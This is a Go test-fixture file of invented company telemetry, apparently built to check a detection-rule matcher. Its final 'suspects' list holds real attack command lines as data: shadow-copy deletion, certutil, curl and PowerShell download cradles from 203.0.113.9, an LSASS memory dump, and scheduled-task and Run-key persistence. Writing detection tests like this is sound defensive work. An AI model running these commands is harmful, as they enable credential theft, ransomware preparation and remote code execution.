package matchtest

// Texts of an ordinary day in a made-up company. None is changed once the program runs; {x} is filled in by expand.

var users = []string{
	"a.weber", "b.lindqvist", "c.marchand", "d.okafor", "e.tanaka", "f.rossi", "g.novak", "h.silva", "i.kaya", "j.meyer",
	"k.larsen", "l.costa", "m.dubois", "n.petrov", "o.haddad", "p.jansen", "svc-build", "svc-report", "svc-print",
}

var words = []string{
	"report", "budget", "orders", "stock", "offer", "invoice", "minutes", "draft", "summary", "plan", "photo", "logo", "layout",
	"contract", "survey", "export", "archive", "index", "catalog", "ledger", "parcel", "supplier", "customer", "review", "poster",
	"harbour", "meadow", "lantern", "copper", "willow", "granite", "saffron", "orchid", "cobble", "maple", "ember", "quartz",
}

var domains = []string{
	"intranet.example", "files.example", "shop.example.net", "mail.example.com", "news.example.org", "maps.example.com",
	"updates.example.net", "telemetry.example.com", "static.example.org", "time.example.net",
}

var hosts = []string{"WS-0117", "WS-0242", "WS-0388", "WS-0519", "WS-0733", "FS-02", "APP-03", "PRN-01", "BLD-04"}

// keywordFields are where an unnamed field may be found in every kind of event.
var keywordFields = []string{"Message", "Details", "message", "CommandLine"}

// A program is what a process creation event says of an image.
type program struct {
	image, description, product, company string
	commands                             []string // templates
	directory                            string
	service                              bool // started by the first of parents
}

// connected is how many of the programs, from the first, speak to other hosts.
const connected = 4

var programs = []program{
	{
		`C:\Program Files\Ledgerline\Office\Writer.exe`, "Ledgerline Writer", "Ledgerline Office", "Ledgerline AG",
		[]string{`"C:\Program Files\Ledgerline\Office\Writer.exe" /n "D:\Work\{w}-{n}.ldx"`, `"C:\Program Files\Ledgerline\Office\Writer.exe"`},
		`D:\Work\`, false,
	},
	{
		`C:\Program Files\Ledgerline\Office\Sheets.exe`, "Ledgerline Sheets", "Ledgerline Office", "Ledgerline AG",
		[]string{`"C:\Program Files\Ledgerline\Office\Sheets.exe" "D:\Work\{w}\{w}-{n}.lsx"`},
		`D:\Work\`, false,
	},
	{
		`C:\Program Files\Parcelwise\Agent\pwagent.exe`, "Parcelwise Agent", "Parcelwise", "Parcelwise Oy",
		[]string{`pwagent.exe sync --queue {w} --since {n}`, `pwagent.exe heartbeat`},
		`C:\Program Files\Parcelwise\Agent\`, false,
	},
	{
		`C:\Program Files\Tidewater\Browser\tidewater.exe`, "Tidewater Browser", "Tidewater", "Tidewater Ltd",
		[]string{
			`"C:\Program Files\Tidewater\Browser\tidewater.exe" --type=renderer --lang=en-GB --renderer-client-id={n} --field-handle={n}`,
			`"C:\Program Files\Tidewater\Browser\tidewater.exe" --type=utility --lang=en-GB --service-id={n}`,
			`"C:\Program Files\Tidewater\Browser\tidewater.exe"`,
		},
		`C:\Program Files\Tidewater\Browser\`, false,
	},
	{
		`C:\Windows\System32\svchost.exe`, "Host Process for Windows Services", "Windows", "Microsoft Corporation",
		[]string{`C:\Windows\system32\svchost.exe -k netsvcs -p -s Themes`, `C:\Windows\system32\svchost.exe -k LocalService -p`},
		`C:\Windows\system32\`, true,
	},
	{
		`C:\Windows\System32\backgroundTaskHost.exe`, "Background Task Host", "Windows", "Microsoft Corporation",
		[]string{`"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{h}.mca`},
		`C:\Windows\system32\`, false,
	},
	{
		`C:\Windows\System32\SearchProtocolHost.exe`, "Search Protocol Host", "Windows Search", "Microsoft Corporation",
		[]string{`"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipe{n} 1`},
		`C:\Windows\system32\`, false,
	},
	{
		`C:\Program Files\Copperfield\Build\cfbuild.exe`, "Copperfield Build", "Copperfield", "Copperfield GmbH",
		[]string{`cfbuild.exe --target {w} --jobs 8 --out D:\Build\{n}\{w}`, `cfbuild.exe --clean {w}`},
		`D:\Build\`, false,
	},
	{
		`C:\Windows\System32\mspaint.exe`, "Paint", "Windows", "Microsoft Corporation",
		[]string{`"C:\Windows\system32\mspaint.exe" D:\Work\{w}-{n}.png`},
		`D:\Work\`, false,
	},
	{
		`C:\Windows\System32\dllhost.exe`, "COM Surrogate", "Windows", "Microsoft Corporation",
		[]string{`C:\Windows\system32\DllHost.exe /Processid:{{h}-1B2C-4D3E-8F90-A1B2C3D4E5F6}`},
		`C:\Windows\system32\`, false,
	},
}

var parents = []program{
	{image: `C:\Windows\System32\services.exe`, commands: []string{`C:\Windows\system32\services.exe`}},
	{image: `C:\Windows\explorer.exe`, commands: []string{`C:\Windows\Explorer.EXE`}},
	{image: `C:\Program Files\Parcelwise\Agent\pwsupervisor.exe`, commands: []string{`pwsupervisor.exe --site {w}`}},
	{image: `C:\Program Files\Tidewater\Browser\tidewater.exe`, commands: []string{`"C:\Program Files\Tidewater\Browser\tidewater.exe"`}},
}

var files = []string{
	`D:\Work\{w}\{w}-{n}.ldx`, `D:\Build\{n}\obj\{w}.o`, `C:\Users\{u}\Documents\{w}-{n}.lsx`, `C:\Users\{u}\Pictures\{w}{n}.jpg`,
	`C:\ProgramData\Parcelwise\queue\{h}.msg`, `C:\ProgramData\Tidewater\cache\f_{h}`,
}

var registryKeys = []string{
	`HKU\S-1-5-21-{n}-{n}-{n}-1108\Software\Ledgerline\Office\Recent\{w}`, `HKLM\SOFTWARE\Parcelwise\Agent\Queues\{w}\Depth`,
	`HKU\S-1-5-21-{n}-{n}-{n}-1131\Software\Tidewater\Browser\Windows\{n}`, `HKLM\SOFTWARE\Copperfield\Build\Last\{w}`,
}

var registryValues = []string{`DWORD (0x0000{n})`, `{w}-{n}`, `D:\Work\{w}`, `QWORD (0x00000000-0x0000{n})`, `Binary Data`}

var libraries = []string{
	`C:\Windows\System32\gdi32full.dll`, `C:\Windows\System32\ucrtbase.dll`, `C:\Windows\System32\combase.dll`,
	`C:\Program Files\Ledgerline\Office\llcore.dll`, `C:\Program Files\Tidewater\Browser\tw_{w}.dll`, `C:\Windows\System32\textshaping.dll`,
}

var scripts = []string{
	"$orders = Import-Csv -Path D:\\Work\\{w}.csv\nforeach ($o in $orders) {\n\tWrite-Output $o.{w}\n}",
	"function Measure-{w} { param($Since = {n})\n\tGet-ChildItem D:\\Build\\{n} | Sort-Object Length | Select-Object -First 10\n}",
	"Get-Date | Out-Host; \"{w}: {n}\"",
}

// linuxCommands are an executable and its arguments.
var linuxCommands = [][]string{
	{`/usr/bin/sort`, `sort`, `-k2`, `-n`, `{w}-{n}.tsv`},
	{`/usr/bin/make`, `make`, `-j4`, `{w}`},
	{`/usr/bin/ls`, `ls`, `--color=auto`, `/srv/{w}`},
	{`/usr/sbin/logrotate`, `logrotate`, `/etc/logrotate.conf`},
	{`/opt/parcelwise/bin/pwagent`, `pwagent`, `sync`, `--queue`, `{w}`, `--since`, `{n}`},
}

var agents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Tidewater/118.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
	"Parcelwise-Agent/7.{n}",
}

var paths = []string{"/", "/{w}/{n}", "/static/{w}.{h}.js", "/api/v2/{w}?page={n}", "/images/{w}-{n}.webp", "/search?q={w}+{w}"}

var cloudCalls = [][2]string{
	{"s3.amazonaws.com", "GetObject"},
	{"s3.amazonaws.com", "HeadObject"},
	{"ec2.amazonaws.com", "DescribeVolumes"},
	{"sqs.amazonaws.com", "ReceiveMessage"},
	{"monitoring.amazonaws.com", "PutMetricData"},
	{"kms.amazonaws.com", "Decrypt"},
}

// suspects are fields and values, in turn.
var suspects = [][]string{
	{"Image", `C:\Windows\System32\vssadmin.exe`, "CommandLine", `vssadmin.exe delete shadows /all /quiet`},
	{"Image", `C:\Windows\System32\certutil.exe`, "CommandLine", `certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe`},
	{"Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine", `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4A`},
	{"Image", `C:\Windows\System32\schtasks.exe`, "CommandLine", `schtasks.exe /create /sc minute /tn upd /tr C:\Users\Public\u.exe`},
	{"Image", `C:\Windows\System32\rundll32.exe`, "CommandLine", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full`},
	{"TargetFilename", `C:\Windows\Temp\lsass.dmp`},
	{"TargetObject", `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\upd`, "Details", `C:\Users\Public\u.exe`},
	{"Image", `/usr/bin/curl`, "CommandLine", `curl -s http://203.0.113.9/x.sh -o /tmp/x.sh`},
	{"ScriptBlockText", `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')`},
	{"QueryName", `abcdefghijklmnop.onion`},
}
